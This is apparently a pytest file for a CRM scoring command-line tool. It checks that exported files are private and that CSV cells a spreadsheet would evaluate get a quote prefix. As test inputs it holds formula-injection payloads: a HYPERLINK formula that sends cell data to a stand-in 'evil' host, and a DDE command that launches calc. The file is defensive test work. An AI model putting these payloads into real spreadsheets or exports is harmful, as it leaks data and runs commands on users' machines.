"""Exports (``clm score -o``, ``clm sync --export-plan``, ``clm report --html``): private files, CSV cells that a
spreadsheet never evaluates, and a clear exit-2 error for a path that cannot be written (issue 14)."""

from __future__ import annotations

import csv
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from cli.main import cli
from connectors.sandbox.generator import generate
from connectors.sandbox.hubspot import HubSpotEmulator, RateLimits, start_hubspot_sandbox
from connectors.sandbox.server import SandboxServer
from core.csvcell import neutralise_cell
from tests.projects import hubspot_project

FORMULA = '=HYPERLINK("http://evil/?leak="&A2,"open")'


@pytest.mark.parametrize("cell", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\0=1",
                                  "-", "+", "=", "-1e5x"])
def test_cells_a_spreadsheet_would_evaluate_get_a_quote(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", [-12.5, -3, 0.0, "-12.5", "+3", "-1e5", "-.5", "plain", "a=b", "", None, True,
                                  "'=already quoted"])
def test_numbers_and_plain_text_stay_as_they_are(cell: object) -> None:
    # Negative numbers stay numbers (a spreadsheet reads them as constants): prefixing would make them text.
    assert neutralise_cell(cell) == cell


@pytest.fixture
def sandbox() -> Iterator[tuple[SandboxServer, HubSpotEmulator]]:
    data = generate(150, seed=4)
    server, emulator = start_hubspot_sandbox(data.contact_records(), data.deal_records(),
                                             rate_limits=RateLimits.off())
    yield server, emulator
    server.stop()


@pytest.fixture
def hostile_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                   sandbox: tuple[SandboxServer, HubSpotEmulator]) -> HubSpotEmulator:
    """A configuration whose next-best-action override is a formula, as a careless or hostile edit could make."""
    server, emulator = sandbox
    path = hubspot_project(tmp_path, monkeypatch, server.url, emulator.token)
    text = path.read_text().replace('action = "renewal_offer"', f"action = {json.dumps(FORMULA)}")
    text = text.replace('criteria = [{ field = "clv_percentile", op = "gte", value = 50 }]', "")
    path.write_text(text)
    return emulator


def ok(result: Result) -> None:
    assert result.exit_code == 0, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)


def private(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) == 0o600


def test_score_csv_is_private_and_neutralised(tmp_path: Path, hostile_config: HubSpotEmulator) -> None:
    out = tmp_path / "out" / "scores.csv"
    ok(CliRunner().invoke(cli, ["score", "-o", str(out)]))
    assert private(out)
    rows = list(csv.DictReader(out.open(newline="")))
    assert len(rows) == 150
    actions = {r["next_best_action"] for r in rows}
    assert "'" + FORMULA in actions and FORMULA not in actions
    assert not any(a.startswith(("=", "+", "-", "@")) for a in actions)
    # Numbers are untouched: every numeric column still parses as a number.
    for row in rows:
        float(row["lead_score"]), float(row["clv"]), float(row["historical_value"])


def test_an_existing_readable_export_is_made_private(tmp_path: Path, hostile_config: HubSpotEmulator) -> None:
    out = tmp_path / "scores.jsonl"
    out.write_text("old")
    out.chmod(0o644)
    ok(CliRunner().invoke(cli, ["score", "-o", str(out)]))
    assert private(out) and len(out.read_text().splitlines()) == 150


def test_plan_exports_and_the_report_are_private_and_neutralised(tmp_path: Path,
                                                                 hostile_config: HubSpotEmulator) -> None:
    runner = CliRunner()
    ok(runner.invoke(cli, ["sync", "--dry-run", "--export-plan", "plan.csv"]))
    plan = tmp_path / "plan.csv"
    assert private(plan)
    cells = [row["new_value"] for row in csv.DictReader(plan.open(newline=""))]
    assert "'" + FORMULA in cells and FORMULA not in cells
    ok(runner.invoke(cli, ["sync", "--dry-run", "--export-plan", "plan.jsonl"]))
    assert private(tmp_path / "plan.jsonl")
    lines = [json.loads(line) for line in (tmp_path / "plan.jsonl").read_text().splitlines()]
    assert any(FORMULA in line["values"].values() for line in lines), "JSON Lines keep the value as it is"
    ok(runner.invoke(cli, ["report", "--html", "report/r.html"]))
    assert private(tmp_path / "report" / "r.html")
    assert hostile_config.total_writes() == 0


def unwritable(tmp_path: Path) -> list[tuple[str, str]]:
    """Output paths that cannot be written, and what the message says about each."""
    (tmp_path / "a-file").write_text("x")
    (tmp_path / "a-dir").mkdir()
    cases = [(str(tmp_path / "a-dir"), "it is a directory"),
             (str(tmp_path / "a-file" / "out.csv"), "cannot write"),  # the folder is a file: cannot be created
             ("/proc/clm-missing/out.csv", "cannot write")]  # a folder that cannot be created
    if Path("/sys").is_dir():
        cases.append(("/sys/clm-out.csv", "Permission denied"))  # a read-only file system, even for root
    if os.geteuid() != 0:
        locked = tmp_path / "read-only"
        locked.mkdir(mode=0o500)
        cases.append((str(locked / "out.csv"), "Permission denied"))
    return cases


@pytest.mark.parametrize("command", [["score", "-o"], ["sync", "--export-plan"], ["report", "--html"],
                                     ["init", "--crm", "hubspot", "--force", "--path"]])
def test_an_output_path_that_cannot_be_written_is_a_clear_usage_error(
        tmp_path: Path, hostile_config: HubSpotEmulator, command: list[str]) -> None:
    runner = CliRunner()
    if command[0] == "report":
        ok(runner.invoke(cli, ["sync", "--dry-run"]))
    for target, says in unwritable(tmp_path):
        result = runner.invoke(cli, [*command, target])
        assert result.exit_code == 2, (target, result.output, result.exception)
        assert isinstance(result.exception, SystemExit), repr(result.exception)
        assert f"cannot write {target}" in result.output and says in result.output, result.output
    # Refused before anything ran: nothing was written to the CRM.
    assert hostile_config.total_writes() == 0


def test_scores_to_a_file_type_we_do_not_write_are_refused_before_any_work(
        tmp_path: Path, hostile_config: HubSpotEmulator) -> None:
    # An .xlsx used to receive JSON Lines under its name, which Excel then refused to open.
    result = CliRunner().invoke(cli, ["score", "-o", str(tmp_path / "scores.xlsx")])
    assert result.exit_code == 2 and "cannot write scores as .xlsx" in result.output and ".csv" in result.output
    assert not (tmp_path / "scores.xlsx").exists()
    assert not (tmp_path / ".clm" / "state.db").exists(), "refused before pulling anything"
